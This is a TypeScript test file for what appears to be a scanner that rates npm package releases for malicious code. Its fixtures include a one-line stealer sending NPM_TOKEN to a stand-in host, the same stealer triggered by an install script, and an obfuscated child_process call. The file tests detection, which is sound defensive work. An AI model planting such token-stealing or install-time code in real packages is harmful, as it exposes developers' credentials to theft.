import { expect, test } from 'vitest'
import type { Files } from '../../test/hijacks/hijack.ts'
import { judgeReleases } from '../../test/judge-releases.ts'
import { manifest } from '../../test/pack-release.ts'

const stealer = "require('https').get('https://x.invalid/' + process.env.NPM_TOKEN)\n"

const rows: readonly (readonly [what: string, files: Files, severity: string | undefined])[] = [
  ['a thief of keys', { 'index.js': stealer }, 'high'],
  ['one that steals at install', { 'package.json': manifest({ scripts: { install: 'node a.js' } }), 'a.js': stealer }, 'critical'],
  ['a name that is put together', { 'index.js': "require('child_' + 'process').exec('id')\n" }, 'high'],
  [
    'a runtime that fetches machine code',
    { 'index.js': "fetch('./a.wasm').then((a) => WebAssembly.instantiateStreaming(a))\n" },
    undefined,
  ],
  ['a bundle that renames require', { 'index.js': "const r = require; r('fs'); r('https')\n" }, undefined],
  [
    'one that starts programs with its environment',
    { 'index.js': "require('child_process').spawn('x', { env: { ...process.env } })\n" },
    undefined,
  ],
]

test.each(rows)('%s, new here, is judged by what it is', async (_, files, severity) => {
  const [first] = await judgeReleases(null, { 'package.json': manifest(), ...files })
  expect(first?.severity).toBe(severity)
  expect(first?.why ?? '').not.toMatch(/release before/)
})
